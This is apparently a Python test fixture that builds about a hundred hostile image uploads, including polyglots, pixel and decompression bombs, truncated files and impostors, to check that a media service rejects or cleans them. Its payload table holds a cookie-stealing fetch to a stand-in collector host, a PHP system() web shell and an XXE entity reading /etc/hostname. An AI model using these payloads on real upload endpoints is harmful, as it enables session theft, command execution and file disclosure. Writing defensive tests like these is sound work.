"""Files that mean harm, some hundred of them: polyglots, bombs, stumps, animations, and what only says that it is a picture."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from PIL import Image, PngImagePlugin

from tests.services.media.kit import encoded, picture

PAYLOADS: dict[str, bytes] = {
    "html": b"<!doctype html><html><body><script>document.title = 'this ran on your origin'</script></body></html>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title = 'this ran on your origin, too'\"></svg>",
    "php": b"<?php system($_GET['command_of_a_stranger_that_is_long_enough_to_be_found']); ?>",
    "zip": b"PK\x03\x04\x14\x00\x00\x00\x08\x00"
    + b"an archive that hides behind a picture of something harmless"
    + b"PK\x05\x06"
    + bytes(18),
    "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\) and then some more)>>>>endobj",
    "exe": b"MZ\x90\x00\x03\x00\x00\x00This program can not be run in DOS mode, and it should not be run anywhere else.",
    "js": b"/*=*/fetch('https://collector.example/' + document.cookie + '#' + localStorage.length);/* and so on */",
    "xml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/hostname'>]><x>&a;&a;&a;&a;</x>",
}
KINDS = ("JPEG", "PNG", "WEBP", "GIF")


@dataclass(frozen=True)
class Hostile:
    """One file. ``code`` is how it has to be refused; None: it may also be taken, cleaned. ``payload`` must not survive that."""

    name: str
    data: bytes
    code: str | None = None
    payload: bytes = b""


def every() -> tuple[Hostile, ...]:
    """All of them, each with a name of its own."""
    return (*polyglots(), *bombs(), *stumps(), *animations(), *impostors())


def polyglots() -> Iterator[Hostile]:
    """Pictures that are something else as well: behind, before, and inside their metadata."""
    for kind in KINDS:
        for name, payload in PAYLOADS.items():
            yield Hostile(f"{kind} then {name}", encoded(picture(90, 70), kind) + payload, payload=payload)
            yield Hostile(f"{name} then {kind}", payload + encoded(picture(90, 70), kind), code="not_a_file or wrong_type")
            yield Hostile(f"{kind} with {name} inside", encoded(picture(90, 70), kind, **_metadata(kind, payload)), payload=payload)


def bombs() -> Iterator[Hostile]:
    """Small files that ask for more memory than there may be."""
    for width, height in ((9_000, 9_000), (50_001, 1_000), (65_000, 65_000), (2**31 - 1, 1), (2**31 - 1, 2**31 - 1), (7_072, 7_072)):
        yield Hostile(f"PNG that says {width}x{height}", _png(width, height), code="too_many_pixels")
    yield Hostile("PNG of 9000x9000 white pixels", encoded(Image.new("1", (9_000, 9_000), 1), "PNG"), code="too_many_pixels")
    for width, height in ((65_000, 65_000), (8_000, 8_000), (65_500, 800)):
        yield Hostile(f"JPEG that says {width}x{height}", _jpeg(width, height), code="too_many_pixels")
        yield Hostile(f"GIF that says {width}x{height}", _gif(width, height), code="too_many_pixels")
    for width, height in ((16_383, 16_383), (2**24, 2**8), (2**14, 2**14), (8_000, 8_000)):
        yield Hostile(f"WebP canvas of {width}x{height}", _webp_canvas(width, height), code="too_many_pixels")
    for width, height in ((16_383, 16_383), (8_000, 8_000)):
        yield Hostile(f"lossless WebP of {width}x{height}", _webp_lossless(width, height), code="too_many_pixels")
        yield Hostile(f"lossy WebP of {width}x{height}", _webp_lossy(width, height), code="too_many_pixels")
    yield Hostile("GIF whose only frame is larger than its screen", _gif(1, 1, frame=(60_000, 60_000)), code="damaged or too_many_pixels")
    flood = zlib.compress(bytes(80_000_000), 9)
    for chunk in (b"zTXt", b"iCCP"):
        yield Hostile(f"PNG with a {chunk.decode()} of 80 MB", _with_chunk(chunk, b"x\x00\x00" + flood))
    yield Hostile("PNG with an iTXt of 80 MB", _with_chunk(b"iTXt", b"x\x00\x01\x00\x00\x00" + flood))
    yield Hostile("PNG whose pixels are a flood", _png(64, 64, pixels=flood))


def stumps() -> Iterator[Hostile]:
    """Pictures that end too soon, and pictures with bytes turned in their middle."""
    for kind in KINDS:
        whole = encoded(picture(300, 200), kind)
        for share in (1, 5, 10, 25, 40, 50, 60, 75, 90, 97):
            yield Hostile(f"{share} % of a {kind}", whole[: max(13, len(whole) * share // 100)])
        for at in range(20, min(len(whole), 320), 50):
            turned = bytearray(whole)
            turned[at : at + 8] = bytes(byte ^ 0xFF for byte in turned[at : at + 8])
            yield Hostile(f"{kind} turned at {at}", bytes(turned))


def animations() -> Iterator[Hostile]:
    """What moves where a still is needed."""
    frames = [picture(60, 40, colour=(shade, 0, 0)) for shade in (10, 120, 230)]
    for kind in ("GIF", "WEBP", "PNG"):
        for number in (2, 3):
            data = encoded(frames[0], kind, save_all=True, append_images=frames[1:number], duration=100)
            yield Hostile(f"{kind} of {number} frames", data, code="animated")


def impostors() -> Iterator[Hostile]:
    """What is no picture, whatever it is called."""
    texts = [
        "https://example.org/fox.png",
        "http://127.0.0.1/admin",
        "data:image/png;base64,iVBORw0KGgo=",
        '{"url": "https://x.example/"}',
        "x",
    ]
    for text in texts:
        yield Hostile(f"the text {text}", text.encode(), code="not_a_file")
    yield Hostile("nothing", b"", code="empty")
    for name, payload in PAYLOADS.items():
        yield Hostile(f"only {name}", payload, code="not_a_file or wrong_type")
    for brand in (b"heic", b"avif", b"mif1", b"isom", b"qt  "):
        yield Hostile(f"a file of brand {brand.decode()}", b"\x00\x00\x00\x20ftyp" + brand + bytes(200), code="wrong_type")
    for kind in ("BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "JPEG2000", "EPS"):
        yield Hostile(f"a real {kind}", encoded(picture(64, 64), kind), code="not_a_file or wrong_type")
    for magic in (b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\x00\x01\x00\x00WEBP", b"GIF89a"):
        for filling in (b"", bytes(500), b"\xff" * 500, PAYLOADS["html"] * 4):
            yield Hostile(f"{magic[:6]!r} and {filling[:4]!r}", magic + filling, code="damaged or too_many_pixels")
    yield Hostile("zeros", bytes(1_000), code="wrong_type")
    yield Hostile("a clip", b"\x1a\x45\xdf\xa3\x01\x00\x00\x00\x00\x00\x00\x1f\x42\x82\x84webm" + bytes(100), code="wrong_type")


def _metadata(kind: str, payload: bytes) -> dict[str, Any]:
    if kind == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", payload.decode("latin-1"))
        info.add(b"prVt", payload)
        return {"pnginfo": info}
    if kind == "GIF":
        return {"comment": payload}
    exif = Image.Exif()
    exif[0x010E] = payload.decode("latin-1")
    return {"exif": exif, "xmp": payload} if kind == "WEBP" else {"exif": exif, "comment": payload}


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *, pixels: bytes | None = None) -> bytes:
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + _chunk(b"IDAT", pixels or zlib.compress(bytes(1_000))) + _chunk(b"IEND", b"")


def _with_chunk(kind: bytes, data: bytes) -> bytes:
    whole = encoded(picture(64, 64), "PNG")
    return whole[:33] + _chunk(kind, data) + whole[33:]


def _jpeg(width: int, height: int) -> bytes:
    whole = bytearray(encoded(picture(64, 64), "JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def _gif(width: int, height: int, *, frame: tuple[int, int] | None = None) -> bytes:
    size = struct.pack("<HH", *(frame or (width, height)))
    image = b"\x2c\x00\x00\x00\x00" + size + b"\x00\x02\x02\x44\x01\x00"
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00\x00\x00\x00\xff\xff\xff" + image + b"\x3b"


def _webp(chunk: bytes, data: bytes) -> bytes:
    body = b"WEBP" + chunk + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _webp_canvas(width: int, height: int) -> bytes:
    inner = io.BytesIO()
    picture(64, 64).save(inner, "WEBP", lossless=True)
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return _webp(b"VP8X", bytes(4) + size) + inner.getvalue()[12:]


def _webp_lossless(width: int, height: int) -> bytes:
    return _webp(b"VP8L", b"\x2f" + struct.pack("<I", (width - 1) | (height - 1) << 14) + bytes(200))


def _webp_lossy(width: int, height: int) -> bytes:
    return _webp(b"VP8 ", b"\x50\x00\x00\x9d\x01\x2a" + struct.pack("<HH", width, height) + bytes(200))
